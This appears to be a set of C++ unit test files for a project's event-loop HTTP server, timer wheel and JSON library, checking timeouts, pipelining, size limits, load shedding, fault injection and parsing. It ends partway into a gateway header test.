TEST(TimerWheel, ExpireReportsTheScheduledDeadline) {
  // The reactor detects stale entries by deadline mismatch, so expire
  // must hand back the deadline each entry was scheduled with.
  TimerWheel wheel(1'000, 8);
  wheel.schedule(0, 2'500, 1);
  util::Micros reported = 0;
  wheel.expire(4'000, [&](std::uint64_t, util::Micros deadline) {
    reported = deadline;
  });
  EXPECT_EQ(reported, 2'500);
}

TEST(TimerWheel, NextDeadlineBracketsTheEarliestEntry) {
  TimerWheel wheel(1'000, 8);
  EXPECT_EQ(wheel.next_deadline(0), -1) << "empty wheel should say sleep";
  wheel.schedule(0, 2'500, 1);
  const util::Micros next = wheel.next_deadline(0);
  // The hint may be quantized up to one slot past the true deadline,
  // never before it minus a slot (a too-early hint is just one spurious
  // wakeup; a too-late hint would delay the reap).
  EXPECT_GE(next, 2'500 - 1'000);
  EXPECT_LE(next, 2'500 + 1'000);
}

// ---- Reactor over real sockets ---------------------------------------------

HttpResponse echo_handler(const HttpRequest& request) {
  return HttpResponse::text(200, "echo:" + request.body);
}

// Reads one full HTTP response off a raw connection (blocking reads).
util::Result<HttpResponse> read_response(Connection& connection) {
  ResponseParser parser;
  char buf[4096];
  while (!parser.complete() && !parser.failed()) {
    auto n = connection.read(buf, sizeof(buf));
    if (!n.ok()) return n.error();
    if (n.value() == 0) break;
    parser.feed(std::string_view(buf, n.value()));
  }
  if (parser.failed()) return parser.error();
  if (!parser.complete())
    return util::make_error("http.incomplete", "EOF before full response");
  return parser.take();
}

// Reads back-to-back pipelined responses: one TCP segment packs several
// responses, so the surplus past each boundary must be carried into the
// next parse (read_response would silently drop it).
class PipelinedReader {
 public:
  explicit PipelinedReader(Connection& connection) : connection_(connection) {}

  util::Result<HttpResponse> next() {
    ResponseParser parser;
    char buf[4096];
    while (!parser.complete() && !parser.failed()) {
      if (off_ < stream_.size()) {
        off_ += parser.feed(std::string_view(stream_).substr(off_));
        if (off_ >= stream_.size()) {
          stream_.clear();
          off_ = 0;
        }
        continue;
      }
      auto n = connection_.read(buf, sizeof(buf));
      if (!n.ok()) return n.error();
      if (n.value() == 0)
        return util::make_error("http.incomplete", "EOF before full response");
      stream_.append(buf, n.value());
    }
    if (parser.failed()) return parser.error();
    return parser.take();
  }

 private:
  Connection& connection_;
  std::string stream_;  // unconsumed bytes past the last response boundary
  std::size_t off_ = 0;
};

// One reactor on its own thread; everything defaults to an inline
// executor (handler runs on the loop thread — fine for tests that are
// not about dispatch).
class ReactorServer {
 public:
  struct Config {
    ServerHandler handler = echo_handler;
    BoundedExecutor executor;  // null → inline
    ParserLimits limits{};
    ServerOptions options{};
    EventLoopOptions loop_options{};
    ServerStats* stats = nullptr;
    ConnStats* conn_stats = nullptr;
  };

  explicit ReactorServer(Config config)
      : server_(std::move(config.handler),
                config.executor ? std::move(config.executor)
                                : [](std::function<void()> job) {
                                    job();
                                    return true;
                                  },
                config.limits, config.options, std::move(config.loop_options),
                config.stats, config.conn_stats) {
    // Deep backlog: connection-burst tests outpace a single-core accept
    // loop, and a 16-deep SYN queue would stall them on retransmits.
    EXPECT_TRUE(listener_.listen(0, 512).ok());
    thread_ = std::thread([this] { accepted_ = server_.serve(listener_); });
  }

  ~ReactorServer() { stop(); }

  void stop() {
    if (!thread_.joinable()) return;
    listener_.close();
    thread_.join();
  }

  std::uint16_t port() const { return listener_.port(); }
  std::size_t accepted() const { return accepted_; }

 private:
  EventLoopHttpServer server_;
  TcpListener listener_;
  std::thread thread_;
  std::size_t accepted_ = 0;
};

TEST(EventLoopServer, RoundtripAndShutdownCount) {
  ConnStats conn_stats;
  ReactorServer server({.conn_stats = &conn_stats});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/echo";
  request.body = "hello";
  request.headers.set("Connection", "close");
  HttpClient http;
  auto response = http.roundtrip(*client.value(), request);
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 200);
  EXPECT_EQ(response.value().body, "echo:hello");
  EXPECT_EQ(response.value().headers.get("Connection"), "close");
  server.stop();
  EXPECT_EQ(server.accepted(), 1u);
  EXPECT_EQ(conn_stats.accepted_total.load(), 1u);
  EXPECT_EQ(conn_stats.open.load(), 0) << "open gauge must unwind to zero";
  EXPECT_EQ(conn_stats.idle.load(), 0);
}

TEST(EventLoopServer, KeepAliveServesSequentialRequests) {
  ServerStats stats;
  ReactorServer server({.stats = &stats});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  for (int i = 0; i < 5; ++i) {
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/echo";
    request.body = "req" + std::to_string(i);
    ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 200);
    EXPECT_EQ(response.value().body, "echo:req" + std::to_string(i));
  }
  // The client can observe the last response before the loop thread
  // bumps the counter; give the increment a moment to land.
  for (int i = 0; i < 2000 && stats.handled_total.load() < 5; ++i)
    std::this_thread::sleep_for(1ms);
  EXPECT_EQ(stats.handled_total.load(), 5u);
}

TEST(EventLoopServer, PipelinedRequestsInOneBufferAnswerInOrder) {
  ReactorServer server({});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  // Three back-to-back requests in a single write: the reactor must
  // answer each in order, re-feeding buffered surplus between responses.
  std::string wire;
  for (int i = 0; i < 3; ++i) {
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/echo";
    request.body = "p" + std::to_string(i);
    wire += request.to_wire();
  }
  ASSERT_TRUE(client.value()->write(wire).ok());
  PipelinedReader reader(*client.value());
  for (int i = 0; i < 3; ++i) {
    auto response = reader.next();
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().body, "echo:p" + std::to_string(i));
  }
}

TEST(EventLoopServer, DeepPipelineDrainsIterativelyWithInlineDispatch) {
  // 400 pipelined requests in one buffer with the inline executor: every
  // completion lands synchronously and the continuation after each
  // response must be deferred, not recursed — a frame per request (each
  // with pump_read's 16 KiB buffer) would chew through the stack.
  ReactorServer server({});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  constexpr int kDepth = 400;
  std::string wire;
  for (int i = 0; i < kDepth; ++i) {
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/echo";
    request.body = "d" + std::to_string(i);
    wire += request.to_wire();
  }
  ASSERT_TRUE(client.value()->write(wire).ok());
  PipelinedReader reader(*client.value());
  for (int i = 0; i < kDepth; ++i) {
    auto response = reader.next();
    ASSERT_TRUE(response.ok()) << "request " << i << ": "
                               << response.error().code;
    EXPECT_EQ(response.value().body, "echo:d" + std::to_string(i));
  }
}

TEST(EventLoopServer, SlowHeaderClientIsReapedWith408) {
  ServerStats stats;
  ConnStats conn_stats;
  ReactorServer server({.options = {.header_deadline_micros = 150'000,
                                    .write_timeout_micros = 500'000},
                        .stats = &stats,
                        .conn_stats = &conn_stats});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(client.value()->write("GET /slow HT").ok());
  const auto started = std::chrono::steady_clock::now();
  auto response = read_response(*client.value());
  const auto elapsed = std::chrono::steady_clock::now() - started;
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 408);
  EXPECT_EQ(response.value().headers.get("Connection"), "close");
  EXPECT_LT(elapsed, 2s);
  EXPECT_GE(stats.reaped_total.load(), 1u);
  EXPECT_GE(stats.timeouts_total.load(), 1u);
  EXPECT_GE(conn_stats.timeout_closes_total.load(), 1u);
}

TEST(EventLoopServer, StalledBodyIsReapedWith408) {
  ServerStats stats;
  ReactorServer server({.options = {.header_deadline_micros = 500'000,
                                    .body_deadline_micros = 150'000,
                                    .write_timeout_micros = 500'000},
                        .stats = &stats});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(client.value()
                  ->write("POST /upload HTTP/1.1\r\nContent-Length: "
                          "1000\r\n\r\npartial")
                  .ok());
  auto response = read_response(*client.value());
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 408);
  EXPECT_GE(stats.reaped_total.load(), 1u);
}

TEST(EventLoopServer, IdleKeepAliveConnectionIsClosedSilently) {
  ServerStats stats;
  ReactorServer server({.options = {.header_deadline_micros = 100'000}});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  // Send nothing: the idle cap closes us with a clean EOF, no 408.
  char buf[64];
  auto n = client.value()->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok()) << n.error().code;
  EXPECT_EQ(n.value(), 0u);
}

TEST(EventLoopServer, SecondRequestIdleTimeoutAlsoSilent) {
  // The idle cap must re-arm after a served request, not just on accept.
  ReactorServer server({.options = {.header_deadline_micros = 150'000,
                                    .write_timeout_micros = 500'000}});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  HttpRequest request;
  request.target = "/first";
  ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
  auto first = read_response(*client.value());
  ASSERT_TRUE(first.ok()) << first.error().code;
  EXPECT_EQ(first.value().status, 200);
  // Then go quiet: EOF (silent close), not a 408.
  char buf[64];
  auto n = client.value()->read(buf, sizeof(buf));
  ASSERT_TRUE(n.ok()) << n.error().code;
  EXPECT_EQ(n.value(), 0u);
}

TEST(EventLoopServer, OversizeBodyGets413AndHeadersGet431) {
  ServerStats stats;
  ReactorServer server({.limits = {.max_headers_bytes = 512,
                                   .max_body_bytes = 64},
                        .stats = &stats});
  {
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/big";
    request.body = std::string(65, 'x');
    ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 413);
  }
  {
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    HttpRequest request;
    request.target = "/padded";
    request.headers.set("X-Padding", std::string(600, 'p'));
    ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 431);
  }
  EXPECT_EQ(stats.rejected_413_total.load(), 1u);
  EXPECT_EQ(stats.rejected_431_total.load(), 1u);
}

// Early-exit parity (DESIGN.md §16): the reactor stamps a validated
// inbound X-W5-Trace onto 413/431/408 rejections exactly like the pooled
// path, so a caller's stitched trace shows where the hop died even when
// no handler ever ran.
TEST(EventLoopServer, EarlyExitsEchoInboundTrace) {
  ReactorServer server({.limits = {.max_headers_bytes = 512,
                                   .max_body_bytes = 64},
                        .options = {.header_deadline_micros = 100'000}});
  {  // 413: headers (with the trace id) parsed, body over budget.
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/big";
    request.headers.set("X-W5-Trace", "trace-413");
    request.body = std::string(65, 'x');
    ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 413);
    EXPECT_EQ(response.value().headers.get("X-W5-Trace").value_or(""),
              "trace-413");
  }
  {  // 431: the trace header arrives before the oversized one, so the
    // incremental parser has already banked it when the limit trips.
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    std::string wire = "GET /padded HTTP/1.1\r\nX-W5-Trace: trace-431\r\n";
    wire += "X-Padding: " + std::string(600, 'p') + "\r\n\r\n";
    ASSERT_TRUE(client.value()->write(wire).ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 431);
    EXPECT_EQ(response.value().headers.get("X-W5-Trace").value_or(""),
              "trace-431");
  }
  {  // 408: a stalled request that already delivered its trace header.
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    ASSERT_TRUE(client.value()
                    ->write("GET /slow HTTP/1.1\r\nX-W5-Trace: trace-408\r\n")
                    .ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 408);
    EXPECT_EQ(response.value().headers.get("X-W5-Trace").value_or(""),
              "trace-408");
  }
  {  // An *invalid* trace token must never round-trip into a response.
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/big";
    request.headers.set("X-W5-Trace", "bad bytes{}!");
    request.body = std::string(65, 'x');
    ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
    auto response = read_response(*client.value());
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 413);
    EXPECT_FALSE(response.value().headers.get("X-W5-Trace").has_value());
  }
}

// Reactor stage attribution (DESIGN.md §16): per-request absolute stamps
// reported after the last response byte, plus the per-loop counter plane.
TEST(EventLoopServer, StageTelemetryReportsOrderedStamps) {
  if (!util::kTelemetryEnabled) return;
  util::Histogram loop_lag({100, 1'000, 10'000});
  util::Histogram epoll_batch({1, 4, 16});
  util::Histogram timer_drift({1'000, 10'000});
  std::vector<LoopStats> loop_stats(1);
  std::mutex samples_mutex;
  std::vector<StageSample> samples;
  EventLoopOptions loop_options;
  loop_options.telemetry.loop_lag_micros = &loop_lag;
  loop_options.telemetry.epoll_batch = &epoll_batch;
  loop_options.telemetry.timer_drift_micros = &timer_drift;
  loop_options.telemetry.loop_stats = &loop_stats;
  loop_options.telemetry.on_stage = [&](const StageSample& sample) {
    const std::lock_guard<std::mutex> lock(samples_mutex);
    samples.push_back(sample);
  };
  ReactorServer server({.handler =
                            [](const HttpRequest&) {
                              HttpResponse response =
                                  HttpResponse::text(200, "ok");
                              response.headers.set("X-W5-Trace", "tr-stages");
                              return response;
                            },
                        .loop_options = std::move(loop_options)});
  for (int i = 0; i < 3; ++i) {
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    HttpRequest request;
    request.target = "/";
    request.headers.set("Connection", "close");
    HttpClient http;
    auto response = http.roundtrip(*client.value(), request);
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().status, 200);
  }
  server.stop();
  const std::lock_guard<std::mutex> lock(samples_mutex);
  ASSERT_EQ(samples.size(), 3u);
  for (const StageSample& sample : samples) {
    EXPECT_EQ(sample.trace_id, "tr-stages");
    EXPECT_EQ(sample.loop_index, 0u);
    EXPECT_GT(sample.request_start, 0);
    EXPECT_LE(sample.request_start, sample.parse_done);
    EXPECT_LE(sample.parse_done, sample.handler_start);
    EXPECT_LE(sample.handler_start, sample.handler_done);
    EXPECT_LE(sample.handler_done, sample.write_done);
  }
  EXPECT_EQ(loop_stats[0].requests.load(), 3u);
  EXPECT_GT(loop_stats[0].epoll_wakeups.load(), 0u);
  EXPECT_GE(loop_stats[0].epoll_events.load(),
            loop_stats[0].epoll_wakeups.load());
  EXPECT_GT(epoll_batch.count(), 0u);
  EXPECT_EQ(loop_stats[0].connections.load(), 0)
      << "per-loop connection gauge must unwind";
}

TEST(EventLoopServer, MalformedStartLineGets400) {
  ReactorServer server({});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(client.value()->write("GARBAGE\r\n\r\n").ok());
  auto response = read_response(*client.value());
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().status, 400);
}

TEST(EventLoopServer, OverloadShedsWith503AndRetryAfterAtDispatch) {
  // 1 worker, queue of 1: the third in-flight request must shed. The
  // reactor sheds at dispatch (headers already parsed on the loop), not
  // at accept — same observable contract.
  os::ThreadPool pool(1, 1);
  ServerStats stats;
  std::mutex mutex;
  std::condition_variable cv;
  bool release = false;
  ReactorServer server(
      {.handler =
           [&](const HttpRequest& request) {
             if (request.parsed.path == "/block") {
               std::unique_lock lock(mutex);
               cv.wait(lock, [&] { return release; });
             }
             return HttpResponse::text(200, "done");
           },
       .executor =
           [&pool](std::function<void()> job) {
             return pool.try_submit(std::move(job));
           },
       .options = {.retry_after_seconds = 7},
       .stats = &stats});

  const auto send_blocking_request = [&]() -> std::unique_ptr<Connection> {
    auto connection = tcp_connect(server.port());
    EXPECT_TRUE(connection.ok());
    if (!connection.ok()) return nullptr;
    HttpRequest request;
    request.target = "/block";
    request.headers.set("Connection", "close");
    EXPECT_TRUE(connection.value()->write(request.to_wire()).ok());
    return std::move(connection).value();
  };
  auto busy1 = send_blocking_request();
  ASSERT_NE(busy1, nullptr);
  for (int i = 0; i < 2000 && pool.active() < 1; ++i)
    std::this_thread::sleep_for(1ms);
  ASSERT_EQ(pool.active(), 1u);
  auto busy2 = send_blocking_request();
  ASSERT_NE(busy2, nullptr);
  for (int i = 0; i < 2000 && pool.pending() < 1; ++i)
    std::this_thread::sleep_for(1ms);
  ASSERT_EQ(pool.pending(), 1u);

  auto shed_conn = send_blocking_request();
  ASSERT_NE(shed_conn, nullptr);
  auto shed = read_response(*shed_conn);
  ASSERT_TRUE(shed.ok()) << shed.error().code;
  EXPECT_EQ(shed.value().status, 503);
  EXPECT_EQ(shed.value().headers.get("Retry-After"), "7");
  EXPECT_EQ(shed.value().headers.get("Connection"), "close");
  EXPECT_EQ(stats.shed_total.load(), 1u);

  {
    std::lock_guard lock(mutex);
    release = true;
  }
  cv.notify_all();
  auto r1 = read_response(*busy1);
  auto r2 = read_response(*busy2);
  EXPECT_TRUE(r1.ok() && r1.value().status == 200);
  EXPECT_TRUE(r2.ok() && r2.value().status == 200);
  server.stop();
  pool.shutdown();
}

TEST(EventLoopServer, WriteTimeoutReapsNeverDrainingReceiver) {
  ServerStats stats;
  ReactorServer server(
      {.handler =
           [](const HttpRequest&) {
             // Far past any kernel buffer pair (send + receive windows
             // can auto-tune into the tens of MB), so the write stalls.
             return HttpResponse::text(200, std::string(64 << 20, 'y'));
           },
       .options = {.write_timeout_micros = 200'000},
       .stats = &stats});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  HttpRequest request;
  request.target = "/huge";
  ASSERT_TRUE(client.value()->write(request.to_wire()).ok());
  // Never read. The reactor must reap the stalled write within the
  // timeout instead of holding the buffers forever.
  for (int i = 0; i < 4000 && stats.reaped_total.load() == 0; ++i)
    std::this_thread::sleep_for(1ms);
  EXPECT_GE(stats.reaped_total.load(), 1u);
  EXPECT_GE(stats.timeouts_total.load(), 1u);
}

TEST(EventLoopServer, InjectedShortReadsReassemble) {
  // Fault decoration on the event path: scripted 1-byte reads force the
  // incremental parser through maximal fragmentation; the request must
  // still be served correctly.
  EventLoopOptions loop_options;
  loop_options.decorate = [](std::unique_ptr<Connection> inner)
      -> std::unique_ptr<Connection> {
    std::vector<FaultAction> reads(
        64, FaultAction{.kind = FaultKind::kShortRead, .bytes = 1});
    return std::make_unique<FaultyConnection>(
        std::move(inner), FaultSchedule::scripted(std::move(reads), {}));
  };
  ReactorServer server({.loop_options = std::move(loop_options)});
  auto client = tcp_connect(server.port());
  ASSERT_TRUE(client.ok());
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/echo";
  request.body = "fragmented";
  request.headers.set("Connection", "close");
  HttpClient http;
  auto response = http.roundtrip(*client.value(), request);
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().body, "echo:fragmented");
}

TEST(EventLoopServer, InjectedResetIsCountedAndServerSurvives) {
  ConnStats conn_stats;
  std::atomic<int> nth{0};
  EventLoopOptions loop_options;
  loop_options.decorate = [&nth](std::unique_ptr<Connection> inner)
      -> std::unique_ptr<Connection> {
    if (nth.fetch_add(1) == 0) {
      return std::make_unique<FaultyConnection>(
          std::move(inner),
          FaultSchedule::scripted({FaultAction{.kind = FaultKind::kReset}},
                                  {}));
    }
    return inner;
  };
  ReactorServer server(
      {.loop_options = std::move(loop_options), .conn_stats = &conn_stats});
  {
    auto doomed = tcp_connect(server.port());
    ASSERT_TRUE(doomed.ok());
    HttpRequest request;
    request.target = "/doomed";
    ASSERT_TRUE(doomed.value()->write(request.to_wire()).ok());
    char buf[64];
    auto n = doomed.value()->read(buf, sizeof(buf));
    // The injected reset surfaces as EOF or a reset error client-side.
    if (n.ok()) {
      EXPECT_EQ(n.value(), 0u);
    }
  }
  for (int i = 0; i < 2000 && conn_stats.reset_total.load() == 0; ++i)
    std::this_thread::sleep_for(1ms);
  EXPECT_EQ(conn_stats.reset_total.load(), 1u);

  // The reactor shrugged it off: the next connection is served cleanly.
  auto healthy = tcp_connect(server.port());
  ASSERT_TRUE(healthy.ok());
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/ok";
  request.body = "alive";
  request.headers.set("Connection", "close");
  HttpClient http;
  auto response = http.roundtrip(*healthy.value(), request);
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().body, "echo:alive");
}

TEST(EventLoopServer, HundredsOfIdleConnectionsHoldTheGauges) {
  // The point of the reactor: idle keep-alive connections are epoll
  // entries, not parked threads. Open a few hundred, let them sit, and
  // check the connection-plane gauges track them exactly.
  constexpr int kConns = 300;
  ConnStats conn_stats;
  ReactorServer server({.conn_stats = &conn_stats});
  std::vector<std::unique_ptr<Connection>> clients;
  clients.reserve(kConns);
  for (int i = 0; i < kConns; ++i) {
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok()) << "connect " << i;
    clients.push_back(std::move(client).value());
  }
  for (int i = 0; i < 5000 && conn_stats.open.load() < kConns; ++i)
    std::this_thread::sleep_for(1ms);
  EXPECT_EQ(conn_stats.open.load(), kConns);
  EXPECT_EQ(conn_stats.idle.load(), kConns);
  EXPECT_EQ(conn_stats.accepted_total.load(),
            static_cast<std::uint64_t>(kConns));

  // One of them wakes up and is served while the rest keep sleeping.
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/wake";
  request.body = "one of many";
  ASSERT_TRUE(clients[kConns / 2]->write(request.to_wire()).ok());
  auto response = read_response(*clients[kConns / 2]);
  ASSERT_TRUE(response.ok()) << response.error().code;
  EXPECT_EQ(response.value().body, "echo:one of many");
  EXPECT_EQ(conn_stats.open.load(), kConns);

  clients.clear();  // mass hangup
  for (int i = 0; i < 5000 && conn_stats.open.load() > 0; ++i)
    std::this_thread::sleep_for(1ms);
  EXPECT_EQ(conn_stats.open.load(), 0);
  EXPECT_EQ(conn_stats.idle.load(), 0);
}

TEST(EventLoopServer, MultipleLoopsShareTheAcceptStream) {
  EventLoopOptions loop_options;
  loop_options.io_threads = 3;
  ReactorServer server({.loop_options = std::move(loop_options)});
  // Round-robin dealing: sequential connections land on different loops;
  // all of them must serve correctly.
  for (int i = 0; i < 9; ++i) {
    auto client = tcp_connect(server.port());
    ASSERT_TRUE(client.ok());
    HttpRequest request;
    request.method = Method::kPost;
    request.target = "/echo";
    request.body = "loop" + std::to_string(i);
    request.headers.set("Connection", "close");
    HttpClient http;
    auto response = http.roundtrip(*client.value(), request);
    ASSERT_TRUE(response.ok()) << response.error().code;
    EXPECT_EQ(response.value().body, "echo:loop" + std::to_string(i));
  }
  server.stop();
  EXPECT_EQ(server.accepted(), 9u);
}

}  // namespace
}  // namespace w5::net
