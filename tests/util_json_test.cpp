#include <gtest/gtest.h>

#include "util/json.h"

namespace w5::util {
namespace {

TEST(JsonTest, ConstructsScalars) {
  EXPECT_TRUE(Json().is_null());
  EXPECT_TRUE(Json(nullptr).is_null());
  EXPECT_TRUE(Json(true).as_bool());
  EXPECT_EQ(Json(42).as_int(), 42);
  EXPECT_DOUBLE_EQ(Json(2.5).as_number(), 2.5);
  EXPECT_EQ(Json("hello").as_string(), "hello");
}

TEST(JsonTest, WrongTypeAccessReturnsFallback) {
  const Json s("text");
  EXPECT_EQ(s.as_int(7), 7);
  EXPECT_FALSE(s.as_bool());
  EXPECT_TRUE(s.as_array().empty());
  EXPECT_TRUE(s.as_object().empty());
  EXPECT_TRUE(Json(3).as_string().empty());
}

TEST(JsonTest, ObjectSubscriptBuildsObjects) {
  Json j;
  j["user"] = "bob";
  j["age"] = 30;
  j["tags"].push_back("photo");
  j["tags"].push_back("blog");
  EXPECT_TRUE(j.is_object());
  EXPECT_EQ(j.at("user").as_string(), "bob");
  EXPECT_EQ(j.at("tags").as_array().size(), 2u);
  EXPECT_TRUE(j.at("missing").is_null());
  EXPECT_TRUE(j.contains("age"));
  EXPECT_FALSE(j.contains("missing"));
}

TEST(JsonTest, DumpIsDeterministicAndSorted) {
  Json j;
  j["zeta"] = 1;
  j["alpha"] = 2;
  EXPECT_EQ(j.dump(), R"({"alpha":2,"zeta":1})");
}

TEST(JsonTest, DumpEscapesControlCharacters) {
  EXPECT_EQ(Json("a\"b\\c\nd").dump(), R"("a\"b\\c\nd")");
  EXPECT_EQ(Json(std::string("\x01", 1)).dump(), "\"\\u0001\"");
}

TEST(JsonTest, ParsesScalars) {
  EXPECT_TRUE(Json::parse("null").value().is_null());
  EXPECT_TRUE(Json::parse("true").value().as_bool());
  EXPECT_FALSE(Json::parse("false").value().as_bool());
  EXPECT_EQ(Json::parse("-17").value().as_int(), -17);
  EXPECT_DOUBLE_EQ(Json::parse("2.5e2").value().as_number(), 250.0);
  EXPECT_EQ(Json::parse(R"("hi")").value().as_string(), "hi");
}

TEST(JsonTest, ParsesNestedStructures) {
  auto r = Json::parse(R"({"a":[1,2,{"b":null}],"c":{"d":"e"}})");
  ASSERT_TRUE(r.ok());
  const Json& j = r.value();
  EXPECT_EQ(j.at("a").as_array().size(), 3u);
  EXPECT_TRUE(j.at("a").as_array()[2].at("b").is_null());
  EXPECT_EQ(j.at("c").at("d").as_string(), "e");
}

TEST(JsonTest, ParsesEscapes) {
  auto r = Json::parse(R"("line\nbreak\t\"q\" Aé")");
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r.value().as_string(), "line\nbreak\t\"q\" A\xc3\xa9");
}

TEST(JsonTest, ParsesWhitespaceLiberally) {
  auto r = Json::parse(" {\n\t\"a\" : [ 1 , 2 ] }\r\n");
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r.value().at("a").as_array().size(), 2u);
}

struct BadInput {
  const char* text;
  const char* why;
};

class JsonRejects : public ::testing::TestWithParam<BadInput> {};

TEST_P(JsonRejects, MalformedInput) {
  auto r = Json::parse(GetParam().text);
  EXPECT_FALSE(r.ok()) << GetParam().why << ": " << GetParam().text;
  if (!r.ok()) {
    EXPECT_EQ(r.error().code, "json.parse");
  }
}

INSTANTIATE_TEST_SUITE_P(
    Cases, JsonRejects,
    ::testing::Values(
        BadInput{"", "empty input"}, BadInput{"{", "unterminated object"},
        BadInput{"[1,", "unterminated array"},
        BadInput{"[1 2]", "missing comma"},
        BadInput{R"({"a" 1})", "missing colon"},
        BadInput{R"({"a":1,})", "trailing comma"},
        BadInput{R"("unterminated)", "unterminated string"},
        BadInput{R"("bad\q")", "unknown escape"},
        BadInput{R"("trunc\u12")", "truncated unicode escape"},
        BadInput{"nul", "bad literal"}, BadInput{"truee", "trailing chars"},
        BadInput{"1 2", "two values"},
        BadInput{"\"raw\ncontrol\"", "raw control char"},
        BadInput{"--1", "malformed number"}));

class JsonRoundTrip : public ::testing::TestWithParam<const char*> {};

TEST_P(JsonRoundTrip, DumpParseDumpIsStable) {
  auto first = Json::parse(GetParam());
  ASSERT_TRUE(first.ok());
  const std::string once = first.value().dump();
  auto second = Json::parse(once);
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(second.value(), first.value());
  EXPECT_EQ(second.value().dump(), once);
}

INSTANTIATE_TEST_SUITE_P(
    Docs, JsonRoundTrip,
    ::testing::Values(
        "null", "[]", "{}", "[[[[]]]]", R"({"a":{"b":{"c":[1,2,3]}}})",
        R"({"policy":"owner-only","tags":[7,11],"enabled":true})",
        R"([0.5,-3,1e10,123456789])",
        R"({"unicode":"éA","nested":[{"x":null}]})"));

TEST(JsonTest, PrettyPrintIndents) {
  Json j;
  j["a"] = Json::array({1, 2});
  const std::string pretty = j.dump(true);
  EXPECT_NE(pretty.find("\n  \"a\": [\n    1,\n    2\n  ]"),
            std::string::npos);
}

TEST(JsonTest, CopyOnWriteDoesNotAliasMutations) {
  Json a;
  a["k"] = 1;
  Json b = a;           // shares storage
  b["k"] = 2;           // must not affect a
  EXPECT_EQ(a.at("k").as_int(), 1);
  EXPECT_EQ(b.at("k").as_int(), 2);
}

TEST(JsonTest, EqualityIsStructural) {
  EXPECT_EQ(Json::parse(R"({"a":1,"b":[true]})").value(),
            Json::parse(R"({ "b" : [ true ] , "a" : 1 })").value());
  EXPECT_NE(Json(1), Json("1"));
}

}  // namespace
}  // namespace w5::util
