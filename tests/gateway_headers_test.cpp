// Label-transparency headers, CSP, /audit endpoint, and process reaping.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::Method;

class GatewayHeadersTest : public ::testing::Test {
 protected:
  GatewayHeadersTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    apps::register_standard_apps(provider_);
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    bob_ = provider_.login("bob", "bobpw").value();
    ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/p1",
                             R"({"title":"t","caption":"","rating":1})",
                             bob_).status,
              201);
  }

  util::SimClock clock_;
  Provider provider_;
  std::string bob_;
};

TEST_F(GatewayHeadersTest, LabelHeaderNamesDeclassifiedTags) {
  const auto response = provider_.http(
      Method::kGet, "/dev/photoco/photos/view?id=p1", "", bob_);
  ASSERT_EQ(response.status, 200);
